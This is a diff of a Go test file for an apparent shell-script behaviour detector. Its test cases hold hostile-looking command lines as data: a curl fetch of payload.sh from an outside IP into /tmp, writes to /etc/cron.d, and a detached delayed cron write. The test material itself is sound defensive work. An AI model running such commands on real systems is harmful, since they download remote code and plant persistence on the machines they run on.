@@ -27,7 +27,7 @@ func TestHarmlessProgramsAreClean(t *testing.T) {
 		{"installs into home", "#!/bin/sh\nmkdir -p ~/.local/bin; cp /usr/bin/true ~/.local/bin/tool; ~/.local/bin/tool; ~/.local/bin/tool\n"},
 	} {
 		t.Run(test.name, func(t *testing.T) {
-			seen := examine(t, e, "harmless", []byte(test.script))
+			seen := examine(t, e, "harmless", needed(t, test.script))
 			if got := score(seen); got >= 40 {
 				t.Errorf("score %.1f, want less than 40:\n%s", got, describe(seen))
 			}
@@ -73,10 +73,10 @@ func TestBehaviours(t *testing.T) {
 		{"python3 -c 'for i in range(6000): open(\"/tmp/%d\" % i, \"w\")'; echo x > /etc/cron.d/last", "writes-cron"},
 		{"python3 -c 'for i in range(6000): open(\"/etc/%d\" % i, \"w\")'; ln -s /tmp/x /etc/cron.d/last", "writes-cron"},
 		{"(setsid sh -c 'sleep 3; echo x > /etc/cron.d/late' &) ; exit 0", "writes-cron"},
-		{"curl http://203.0.113.9/payload.sh -o /tmp/p", "downloads"},
+		{"cp /usr/bin/true /tmp/curl; /tmp/curl http://203.0.113.9/payload.sh -o /tmp/p", "downloads"},
 	} {
 		t.Run(fmt.Sprintf("%02d %s", i, strings.ReplaceAll(test.want, "-", " ")), func(t *testing.T) {
-			seen := examine(t, e, "sample.sh", []byte(test.script+"\n"))
+			seen := examine(t, e, "sample.sh", needed(t, test.script+"\n"))
 			if !slices.Contains(ids(seen), test.want) {
 				t.Errorf("%q was not seen in %q:\n%s", test.want, test.script, describe(seen))
 			}
@@ -87,7 +87,7 @@ func TestBehaviours(t *testing.T) {
 // What the report lists is what the sample did, by the names that it used.
 func TestReportLists(t *testing.T) {
 	e := newEngine(t, Options{Time: 3 * time.Second})
-	seen := examine(t, e, "lists.sh", []byte(`
+	seen := examine(t, e, "lists.sh", needed(t, `
 printf 'short' > /tmp/kept
 printf 'gone' > /tmp/gone; rm /tmp/gone
 python3 -c 'import socket
